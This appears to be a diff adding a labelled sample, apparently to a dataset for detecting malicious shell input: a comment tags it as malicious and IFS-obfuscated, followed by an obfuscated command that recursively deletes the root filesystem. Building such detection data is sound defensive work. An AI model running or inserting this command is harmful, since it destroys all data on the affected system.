@@ -1,0 +1,2 @@
+# label: malicious; obfuscated: ifs
+rm${IFS}-rf${IFS}/
